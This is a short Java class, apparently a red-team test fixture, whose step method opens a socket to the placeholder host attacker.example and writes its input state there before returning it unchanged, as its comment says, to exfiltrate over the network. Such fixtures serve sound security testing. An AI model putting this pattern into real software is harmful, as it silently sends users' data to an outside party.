package redteam.packs.socket;

/** Red team: exfiltrates over the network. */
public final class SocketLogic {
    public String step(String state) throws Exception {
        try (java.net.Socket s = new java.net.Socket("attacker.example", 443)) {
            s.getOutputStream().write(state.getBytes());
        }
        return state;
    }
}
